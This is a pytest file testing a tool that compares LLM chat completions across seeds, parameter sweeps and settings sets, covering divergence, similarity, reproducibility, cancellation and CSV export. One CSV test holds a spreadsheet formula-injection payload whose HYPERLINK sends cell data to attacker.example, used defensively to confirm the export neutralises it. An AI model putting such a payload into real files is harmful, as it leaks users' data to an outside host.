"""playground.compare: parsing, divergence, grouping, similarity, reproducibility, export; runs with
faults injected through httpx.MockTransport (real runs are in tests/integration/test_compare_runs.py)."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from playground.client import ChatClient, ClientConfig
from playground.compare import (
    MAX_RUNS,
    CompareSetupError,
    Comparison,
    RunResult,
    SettingsSet,
    Sweep,
    Variant,
    analyse,
    divergence,
    first_difference,
    group_identical,
    group_summary,
    mode_of,
    parse_seeds,
    parse_values,
    reproducibility,
    reproducibility_summary,
    run_comparison,
    similarity,
    similarity_matrix,
    start_comparison,
    to_csv,
    tokenize_words,
    tokens_of,
    variants,
)
from playground.errors import RequestError
from playground.response import from_chat_completion

BASE = "https://api.example.test/v1"
BODY: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": "Say hi"}], "temperature": 1.0}


pytestmark = pytest.mark.usefixtures("instant_retries")  # tests/conftest.py


# ----------------------------------------------------------------------------------- parsing


@pytest.mark.parametrize(
    ("text", "seeds"),
    [
        ("1, 2, 7", [1, 2, 7]),
        ("1-4", [1, 2, 3, 4]),
        ("1-3, 9 ; 2", [1, 2, 3, 9]),
        (" 5 - 7 ", [5, 6, 7]),
        ("3–4", [3, 4]),
        ("0", [0]),
        ("4294967295", [4294967295]),
    ],
)
def test_parse_seeds(text: str, seeds: list[int]) -> None:
    assert parse_seeds(text) == seeds


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "empty"),
        (" , ", "empty"),
        ("1, x", "not_a_number"),
        ("1.5", "not_a_number"),
        ("-3", "out_of_range"),
        ("4294967296", "out_of_range"),
        ("9-2", "range_reversed"),
        ("1-100", "too_many"),
        (", ".join(str(i) for i in range(MAX_RUNS + 1)), "too_many"),
    ],
)
def test_parse_seeds_refuses_in_plain_words(text: str, code: str) -> None:
    with pytest.raises(CompareSetupError) as info:
        parse_seeds(text)
    assert isinstance(info.value, RequestError) and not isinstance(info.value, ValueError)  # one root: PlaygroundError
    assert [(e.field, e.code) for e in info.value.errors] == [("seed", code)]
    assert "Traceback" not in str(info.value) and str(info.value).startswith("seed: ")


def test_parse_values_reads_a_list_within_the_fields_bounds() -> None:
    assert parse_values("temperature", "0.2, 0.7 1.2, 0.7") == [0.2, 0.7, 1.2]
    assert parse_values("presence_penalty", "-2, 0, 2") == [-2.0, 0.0, 2.0]
    with pytest.raises(CompareSetupError) as info:
        parse_values("top_p", "0.5, 1.5")
    assert [(e.field, e.code) for e in info.value.errors] == [("top_p", "out_of_range")]
    assert "1.5" in str(info.value) and "0 to 1" in str(info.value)
    for bad, code in (("", "empty"), ("abc", "not_a_number"), ("nan", "not_a_number"), ("inf", "not_a_number")):
        with pytest.raises(CompareSetupError) as info:
            parse_values("temperature", bad)
        assert info.value.errors[0].code == code
    with pytest.raises(CompareSetupError) as info:
        parse_values("max_completion_tokens", "1, 2")
    assert (info.value.errors[0].field, info.value.errors[0].code) == ("sweep", "not_sweepable")


# ----------------------------------------------------------------------------------- variants


def test_seed_variants_copy_the_base_body() -> None:
    base = json.loads(json.dumps(BODY))
    vs = variants(base, seeds="1, 2, 7")
    assert [v.label for v in vs] == ["seed 1", "seed 2", "seed 7"]
    assert [v.body["seed"] for v in vs] == [1, 2, 7]
    assert all(v.body["messages"] == BODY["messages"] and v.changes == {"seed": v.seed} for v in vs)
    vs[0].body["messages"][0]["content"] = "changed"
    assert base == BODY and vs[1].body["messages"][0]["content"] == "Say hi"
    assert mode_of(vs) == "seeds"


def test_sweep_variants_and_labels() -> None:
    vs = variants(BODY, sweep=("temperature", "0.2, 0.7"))
    assert [v.label for v in vs] == ["temperature 0.2", "temperature 0.7"]
    assert [v.body["temperature"] for v in vs] == [0.2, 0.7]
    assert mode_of(vs) == "sweep"
    assert [v.label for v in variants(BODY, sweep=Sweep(field="top_p", values=[0.5, 0.9]))] == ["top_p 0.5", "top_p 0.9"]
    with pytest.raises(CompareSetupError):
        variants(BODY, sweep=Sweep(field="temperature", values=[3.0]))


def test_setting_sets_with_their_own_backend() -> None:
    vs = variants(
        BODY,
        settings_sets=[
            {"fields": {"model": "small"}},
            SettingsSet(
                label="grok",
                fields={"model": "grok-4", "temperature": None},
                backend="xai",
                base_url="https://user:pw@api.x.ai/v1",
            ),
        ],
    )
    assert [v.label for v in vs] == ["set A", "grok"]
    assert vs[0].body["model"] == "small" and vs[0].backend is None
    assert vs[1].body["model"] == "grok-4" and "temperature" not in vs[1].body and vs[1].backend == "xai"
    assert vs[1].base_url is None  # a URL carrying credentials is not kept
    assert mode_of(vs) == "sets"
    for count in (1, 5):
        with pytest.raises(CompareSetupError) as info:
            variants(BODY, settings_sets=[{"fields": {}}] * count)
        assert info.value.errors[0].code == "set_count"


def test_repeat_pairs_runs_of_the_same_request() -> None:
    vs = variants(BODY, seeds=[3, 3, 4], repeat=2)
    assert [v.label for v in vs] == ["seed 3 · run 1", "seed 3 · run 2", "seed 4 · run 1", "seed 4 · run 2"]
    assert [(v.key, v.attempt) for v in vs] == [("seed 3", 1), ("seed 3", 2), ("seed 4", 1), ("seed 4", 2)]
    for bad in ([1.5], [True], [-1]):
        with pytest.raises(CompareSetupError):
            variants(BODY, seeds=bad)  # type: ignore[arg-type]
    alone = variants(BODY, repeat=2)
    assert [v.label for v in alone] == ["run 1", "run 2"] and mode_of(alone) == "single"
    assert alone[0].body == BODY


def test_combined_variants_and_the_run_limit() -> None:
    vs = variants(BODY, seeds="1-2", settings_sets=[{"fields": {"model": "a"}}, {"fields": {"model": "b"}}])
    assert [v.label for v in vs] == ["set A · seed 1", "set A · seed 2", "set B · seed 1", "set B · seed 2"]
    assert mode_of(vs) == "mixed"
    with pytest.raises(CompareSetupError) as info:
        variants(BODY, seeds="1-16", repeat=3)
    assert (info.value.errors[0].field, info.value.errors[0].code) == ("repeat", "too_many")
    with pytest.raises(CompareSetupError) as info:
        variants(BODY, seeds="1", repeat=0)
    assert info.value.errors[0].field == "repeat"


# ----------------------------------------------------------------------------------- divergence


def test_word_tokens_join_back() -> None:
    for text in ("", "  a b\n\nc  ", "Hello, world!", "café ☕ 🍵\t"):
        assert "".join(tokenize_words(text)) == text
    assert tokenize_words("the cat  sat ") == ["the", " cat", "  sat", " "]


def test_divergence_marks_where_each_text_departs() -> None:
    texts = ["the cat sat", "the cat ran", "the dog", "the cat sat"]
    divs = divergence(texts)
    assert [d.diverges for d in divs] == [True, True, True, True]
    assert [(d.point.token, d.point.word, d.point.word_index) for d in divs if d.point] == [
        (" sat", "sat", 2),
        (" ran", "ran", 2),
        (" dog", "dog", 1),
        (" sat", "sat", 2),
    ]
    assert divs[0].closest == 1 and divs[2].closest == 0
    assert texts[0][: divs[0].point.char] == "the cat" and divs[0].other is not None and divs[0].other.token == " ran"


def test_divergence_of_identical_and_single_texts() -> None:
    assert [d.diverges for d in divergence(["same", "same", "same"])] == [False, False, False]
    assert divergence(["alone"])[0].point is None
    assert divergence([]) == []


def test_divergence_with_empty_and_one_sided_texts() -> None:
    empty, full = divergence(["", "Hello there"])
    assert empty.point is not None and (empty.point.char, empty.point.token, empty.point.word) == (0, None, None)
    assert full.point is not None and (full.point.token, full.point.word) == ("Hello", "Hello")
    short, long_ = divergence(["Hello", "Hello there"])
    assert short.point is not None and (short.point.token, short.point.word, short.point.char) == (None, None, 5)
    assert long_.point is not None and (long_.point.token, long_.point.word, long_.point.word_char) == (" there", "there", 6)


def test_divergence_uses_the_models_tokens_when_every_text_has_them() -> None:
    texts = ["The cat", "The cow"]
    by_model = divergence(texts, [["The", " c", "at"], ["The", " c", "ow"]])
    assert by_model[0].tokens == "logprobs"
    assert by_model[0].point is not None and (by_model[0].point.token_index, by_model[0].point.token) == (2, "at")
    assert by_model[0].point.word == "cat" and by_model[1].point is not None and by_model[1].point.word == "cow"
    mixed = divergence(texts, [["The", " c", "at"], None])  # one run without logprobs: words for both
    assert mixed[0].tokens == "words" and mixed[0].point is not None and mixed[0].point.token == " cat"
    wrong = divergence(texts, [["The", " cat"], ["The cow?"]])  # tokens that do not rebuild the text
    assert wrong[0].tokens == "words"


def test_first_difference_by_token_and_word() -> None:
    diff = first_difference("I like green apples", "I like red apples")
    assert not diff.identical and diff.first_char == 7 and diff.common_prefix == "I like "
    assert diff.a is not None and diff.b is not None
    assert (diff.a.token, diff.b.token, diff.a.word_index, diff.a.word, diff.b.word) == (" green", " red", 2, "green", "red")
    same = first_difference("x y", "x y")
    assert same.identical and same.a is None and same.b is None and same.first_char is None
    spaces = first_difference("a b", "a  b")  # the same words: only whitespace differs
    assert not spaces.identical and spaces.a is not None and spaces.a.word is None and spaces.a.word_index is None
    assert first_difference("", "").identical


def test_first_difference_never_splits_a_character() -> None:
    diff = first_difference("café ☕ 🍵 ok", "café ☕ 🍰 ok")
    assert diff.a is not None and diff.b is not None
    assert (diff.a.word, diff.b.word, diff.first_char) == ("🍵", "🍰", 7)
    assert diff.common_prefix == "café ☕ "
    combining = first_difference("cafe\u0301 noir", "cafe\u0300 noir")  # é vs è written with combining marks
    assert combining.first_char == 3 and combining.common_prefix == "caf"
    family = first_difference("a 👨\u200d👩\u200d👧 b", "a 👨\u200d👩\u200d👦 b")  # ZWJ sequences that differ at the end
    assert family.first_char == 2
    flag_tone = first_difference("ok 👍🏽", "ok 👍🏿")
    assert flag_tone.first_char == 3
    for d in (diff, combining, family, flag_tone):
        d.common_prefix.encode("utf-8")  # no lone surrogates or broken characters


def test_logprob_byte_pieces_are_merged_into_characters() -> None:
    cup = "🍵".encode()
    data = {
        "id": "1",
        "model": "m",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": "tea 🍵"},
                "finish_reason": "stop",
                "logprobs": {
                    "content": [
                        {"token": "tea", "logprob": -0.1, "bytes": list(b"tea")},
                        {"token": " ", "logprob": -0.2, "bytes": list(b" ")},
                        {"token": "\ufffd", "logprob": -0.3, "bytes": list(cup[:2])},
                        {"token": "\ufffd", "logprob": -0.4, "bytes": list(cup[2:])},
                    ]
                },
            }
        ],
    }
    run = RunResult(index=0, label="a", body={}, status="done", text="tea 🍵", completion=from_chat_completion(data))
    assert tokens_of(run) == ["tea", " ", "🍵"]
    assert tokens_of(run.model_copy(update={"text": "other"})) is None
    assert tokens_of(run.model_copy(update={"completion": None})) is None


# ----------------------------------------------------------------------------------- groups, similarity


def test_grouping_identical_answers() -> None:
    texts = ["a", "b", "a", "c", "a", "b", "d", "e"]
    groups = group_identical(texts)
    assert [(g.number, g.text, g.members) for g in groups] == [
        (1, "a", [0, 2, 4]),
        (2, "b", [1, 5]),
        (3, "c", [3]),
        (4, "d", [6]),
        (5, "e", [7]),
    ]
    assert group_summary(groups) == "3 + 2 of 8 identical in 2 groups"
    assert group_summary(group_identical(["a", "a", "a", "b", "c", "d", "e", "f"])) == "3 of 8 identical"
    assert group_summary(group_identical(["x"] * 4)) == "all 4 identical"
    assert group_summary(group_identical(["w", "x", "y", "z"])) == "all 4 different"
    assert group_summary(group_identical(["", ""])) == "all 2 identical"
    assert group_summary([]) == "no answers"


def test_similarity() -> None:
    assert similarity("same text", "same text") == 1.0
    assert similarity("", "") == 1.0
    assert similarity("", "something") == 0.0
    assert similarity("a b c d", "w x y z") == 0.0
    half = similarity("one two three four", "one two five six")
    assert 0.0 < half < 1.0 and half == pytest.approx(0.5)
    matrix = similarity_matrix(["a b", "a b", "a c", ""])
    assert [matrix[i][i] for i in range(4)] == [1.0] * 4
    assert matrix[0][1] == 1.0 and matrix[0][2] == matrix[2][0] and 0 < matrix[0][2] < 1 and matrix[0][3] == 0.0


# ----------------------------------------------------------------------------------- running (faults injected)


def chunk(content: str | None = None, finish: str | None = None, fingerprint: str = "fp_1") -> dict[str, Any]:
    delta = {} if content is None else {"content": content}
    return {
        "id": "c1",
        "model": "m",
        "object": "chat.completion.chunk",
        "system_fingerprint": fingerprint,
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def sse(pieces: list[str], fingerprint: str = "fp_1") -> bytes:
    events = [chunk(p, fingerprint=fingerprint) for p in pieces] + [chunk(finish="stop", fingerprint=fingerprint)]
    events.append(
        {
            "id": "c1",
            "model": "m",
            "choices": [],
            "usage": {"prompt_tokens": 4, "completion_tokens": len(pieces), "total_tokens": 4 + len(pieces)},
        }
    )
    return ("".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n").encode()


def streamed(payload: bytes | httpx.SyncByteStream) -> httpx.Response:
    if isinstance(payload, bytes):
        return httpx.Response(200, headers={"content-type": "text/event-stream"}, content=payload)
    return httpx.Response(200, headers={"content-type": "text/event-stream"}, stream=payload)


def clients(handler: Callable[[dict[str, Any]], httpx.Response]) -> Callable[[Variant], ChatClient]:
    """One client for every run (like runner.Clients), answering from `handler(body)`."""
    client = ChatClient(
        ClientConfig(base_url=BASE, kind="openai"), transport=httpx.MockTransport(lambda r: handler(json.loads(r.content)))
    )
    return lambda variant: client


def by_seed(answers: dict[int, list[str]]) -> Callable[[dict[str, Any]], httpx.Response]:
    return lambda body: streamed(sse(answers[body["seed"]]))


def test_a_comparison_runs_every_variant_and_records_timings() -> None:
    answers = {1: ["The", " cat", " sat"], 2: ["The", " dog"], 3: ["The", " cat", " sat"]}
    comparison = run_comparison(variants(BODY, seeds="1-3"), clients(by_seed(answers)), concurrency=2)
    assert [r.status for r in comparison.results] == ["done"] * 3
    assert [r.text for r in comparison.results] == ["The cat sat", "The dog", "The cat sat"]
    for r in comparison.results:
        assert r.completion is not None and r.completion.raw == {}  # the chunk list is not kept
        assert r.usage is not None and r.usage.output_tokens == len(answers[r.body["seed"]])
        assert r.ttft_s is not None and r.total_s is not None and 0 <= r.ttft_s <= r.total_s
        assert r.system_fingerprint == "fp_1"
    assert comparison.mode == "seeds" and comparison.base_body == BODY and comparison.progress == 1.0
    analysis = analyse(comparison)
    assert analysis.summary == "2 of 3 identical" and analysis.group_of == {0: 1, 1: 2, 2: 1}
    assert analysis.divergence[1].point is not None and analysis.divergence[1].point.word == "dog"
    assert analysis.similarity_to_first[2] == 1.0 and analysis.similarity_to_first[1] < 1.0


def test_a_one_chunk_answer_reads_tokens_per_second_over_the_whole_run() -> None:
    """A tool-constrained answer from the gateway arrives in one chunk, after the whole generation: the time
    from first token to the end is then nearly zero. Compare read 532,283 tok/s from such answers; it now
    times runs as `runner.stream` does (end to end when everything arrived at once)."""

    class OneChunk(httpx.SyncByteStream):
        def __iter__(self) -> Iterator[bytes]:
            time.sleep(0.3)  # the model generates; nothing streams meanwhile
            events = [chunk("forty tokens of a tool call"), chunk(finish="stop")]
            events.append({"id": "c1", "model": "m", "choices": [], "usage": {"prompt_tokens": 4, "completion_tokens": 40}})
            yield ("".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n").encode()

    comparison = run_comparison(variants(BODY, seeds="1"), clients(lambda body: streamed(OneChunk())))
    (r,) = comparison.results
    assert r.status == "done" and r.usage is not None and r.usage.output_tokens == 40
    assert r.total_s is not None and r.total_s >= 0.3
    assert r.tokens_per_s is not None and r.tokens_per_s <= 40 / 0.3


def test_a_failing_run_keeps_its_error_while_the_others_complete() -> None:
    def handler(body: dict[str, Any]) -> httpx.Response:
        if body["seed"] == 2:
            return httpx.Response(400, json={"error": {"message": "seed 2 is cursed", "type": "invalid_request_error"}})
        if body["seed"] == 3:  # an error event after some text
            error = {"error": {"message": "the slot crashed", "code": 500}}
            return streamed(f"data: {json.dumps(chunk('Par'))}\n\ndata: {json.dumps(error)}\n\n".encode())
        return streamed(sse(["fine"]))

    comparison = run_comparison(variants(BODY, seeds="1-3"), clients(handler))
    one, two, three = comparison.results
    assert (one.status, one.text, one.error) == ("done", "fine", None)
    assert two.status == "error" and two.error is not None and "seed 2 is cursed" in two.error and two.text == ""
    assert three.status == "error" and three.error is not None and "the slot crashed" in three.error
    assert three.text == "Par" and three.completion is None
    assert analyse(comparison).compared == [0]


def test_a_client_that_cannot_be_made_fails_only_its_run() -> None:
    good = clients(by_seed({1: ["ok"], 2: ["ok"]}))

    def client_for(variant: Variant) -> ChatClient:
        if variant.seed == 2:
            raise RuntimeError("no client for you")
        return good(variant)

    comparison = run_comparison(variants(BODY, seeds="1, 2"), client_for)
    assert [r.status for r in comparison.results] == ["done", "error"]
    assert comparison.results[1].error == "RuntimeError: no client for you"


def test_rate_limited_run_is_retried_by_the_client() -> None:
    calls: list[int] = []

    def handler(body: dict[str, Any]) -> httpx.Response:
        calls.append(body["seed"])
        if calls.count(body["seed"]) == 1 and body["seed"] == 2:
            return httpx.Response(429, headers={"retry-after": "0"}, json={"error": "slow down", "code": "resource exhausted"})
        return streamed(sse(["hi"]))

    comparison = run_comparison(variants(BODY, seeds="1, 2"), clients(handler))
    assert [r.status for r in comparison.results] == ["done", "done"]
    assert calls.count(2) == 2


def test_cancel_keeps_what_finished_and_marks_the_rest() -> None:
    cancel = threading.Event()
    gate = threading.Event()
    closed: list[bool] = []

    class Slow(httpx.SyncByteStream):
        def __iter__(self) -> Iterator[bytes]:
            yield f"data: {json.dumps(chunk('Hel'))}\n\n".encode()
            gate.wait(10)
            yield f"data: {json.dumps(chunk('lo'))}\n\n".encode()
            yield sse([])

        def close(self) -> None:
            closed.append(True)

    def handler(body: dict[str, Any]) -> httpx.Response:
        return streamed(Slow()) if body["seed"] == 2 else streamed(sse(["done"]))

    updates: list[RunResult] = []

    def on_update(result: RunResult) -> None:
        updates.append(result)
        if result.label == "seed 2" and result.text == "Hel":
            cancel.set()
            gate.set()

    comparison = run_comparison(
        variants(BODY, seeds="1-3"), clients(handler), concurrency=1, on_update=on_update, cancel=cancel, update_every_s=0
    )
    assert [r.status for r in comparison.results] == ["done", "cancelled", "cancelled"]
    assert comparison.results[0].text == "done"
    assert comparison.results[1].text == "Hel" and comparison.results[1].completion is None
    assert comparison.results[2].text == "" and comparison.results[2].total_s is None
    assert closed == [True]  # the cancelled stream's response was closed
    assert [u.status for u in updates if u.label == "seed 3"] == ["cancelled"]


def test_updates_are_throttled_but_every_run_reports_its_end() -> None:
    pieces = [f" w{i}" for i in range(40)]
    seen: list[RunResult] = []
    run_comparison(variants(BODY, seeds="1"), clients(lambda b: streamed(sse(pieces))), on_update=seen.append, update_every_s=60)
    assert [u.status for u in seen] == ["running", "done"] and seen[-1].text == "".join(pieces)
    seen.clear()
    run_comparison(variants(BODY, seeds="1"), clients(lambda b: streamed(sse(pieces))), on_update=seen.append, update_every_s=0)
    texts = [u.text for u in seen if u.status == "running"][1:]
    assert texts == ["".join(pieces[: i + 1]) for i in range(len(pieces))]  # text grows as it streams


def test_reproducibility_matches_token_for_token_or_says_where() -> None:
    attempts: dict[int, int] = {}

    def handler(body: dict[str, Any]) -> httpx.Response:
        attempts[body["seed"]] = attempts.get(body["seed"], 0) + 1
        if body["seed"] == 2 and attempts[2] == 2:
            return streamed(sse(["The", " dog", " ran"], fingerprint="fp_2"))
        return streamed(sse(["The", " dog", " sat"]))

    comparison = run_comparison(variants(BODY, seeds="1, 2", repeat=2), clients(handler), concurrency=1)
    checks = reproducibility(comparison.results)
    assert [(c.key, c.matched) for c in checks] == [("seed 1", True), ("seed 2", False)]
    assert checks[0].difference is None and not checks[0].fingerprint_changed
    miss = checks[1]
    assert miss.difference is not None and miss.difference.b is not None
    assert (miss.difference.b.token_index, miss.difference.b.token, miss.difference.b.word) == (2, " ran", "ran")
    assert miss.fingerprints == ("fp_1", "fp_2") and miss.fingerprint_changed
    assert reproducibility_summary(checks) == "1 of 2 repeats matched token for token; seed 2 · run 2 first differed at token 3"
    assert reproducibility_summary([]) == "no repeated runs"


def test_reproducibility_leaves_out_runs_that_did_not_finish() -> None:
    results = [
        RunResult(index=0, label="seed 1 · run 1", key="seed 1", attempt=1, body={}, status="done", text="a"),
        RunResult(index=1, label="seed 1 · run 2", key="seed 1", attempt=2, body={}, status="error", text=""),
    ]
    assert reproducibility(results) == []


def test_a_comparison_round_trips_through_json() -> None:
    comparison = run_comparison(variants(BODY, seeds="1, 2"), clients(by_seed({1: ["é", "🍵"], 2: ["x"]})))
    text = comparison.model_dump_json()
    again = Comparison.model_validate_json(text)
    assert again == comparison
    assert again.results[0].text == "é🍵" and again.results[0].completion is not None
    assert analyse(again) == analyse(comparison)


def test_csv_export() -> None:
    def handler(body: dict[str, Any]) -> httpx.Response:
        if body["seed"] == 3:
            return httpx.Response(400, json={"error": {"message": "nope"}})
        return streamed(sse(['He said, "hi"', "\nbye"] if body["seed"] == 1 else ["other"]))

    comparison = run_comparison(variants(BODY, seeds="1-3"), clients(handler))
    rows = list(csv.reader(io.StringIO(to_csv(comparison).decode("utf-8"))))
    assert rows[0] == [
        "label",
        "setting",
        "status",
        "text",
        "tokens",
        "ttft_s",
        "total_s",
        "tokens_per_s",
        "group",
        "similarity_to_first",
        "diverges_at_token",
        "error",
    ]
    first, second, third = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert (first["label"], first["setting"], first["status"], first["text"]) == (
        "seed 1",
        "seed=1",
        "done",
        'He said, "hi"\nbye',
    )
    assert first["tokens"] == "2" and first["group"] == "1" and first["similarity_to_first"] == "1.000"
    assert second["group"] == "2" and float(second["similarity_to_first"]) < 1 and second["diverges_at_token"] == "1"
    assert third["status"] == "error" and "nope" in third["error"] and third["group"] == "" and third["tokens"] == ""


def test_csv_export_keeps_untrusted_text_from_running_as_a_formula() -> None:
    """A model's answer (or an error, or a label) that a spreadsheet would run as a formula is written as text."""
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    comparison = run_comparison(variants(BODY, seeds="1"), clients(lambda body: streamed(sse([evil]))))
    rows = list(csv.reader(io.StringIO(to_csv(comparison).decode("utf-8"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["text"] == "'" + evil
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in rows for cell in line)


def test_a_background_job_can_be_polled_and_cancelled() -> None:
    gate = threading.Event()

    class Held(httpx.SyncByteStream):
        def __iter__(self) -> Iterator[bytes]:
            yield f"data: {json.dumps(chunk('wait'))}\n\n".encode()
            gate.wait(10)
            yield sse(["ed"])

    def handler(body: dict[str, Any]) -> httpx.Response:
        return streamed(Held()) if body["seed"] == 2 else streamed(sse(["quick"]))

    started = threading.Event()
    job = start_comparison(
        variants(BODY, seeds="1-3"),
        clients(handler),
        concurrency=1,
        on_update=lambda r: started.set() if r.text == "wait" else None,
    )
    assert started.wait(10)
    snap = job.snapshot()
    assert not job.done and snap.results[0].status == "done" and snap.results[2].status == "pending"
    assert 0 < snap.progress < 1
    job.cancel()
    gate.set()
    result = job.wait(10)
    assert result is not None and job.done and job.failure is None
    assert [r.status for r in result.results] == ["done", "cancelled", "cancelled"]
    assert result.id == snap.id and job.snapshot() is result
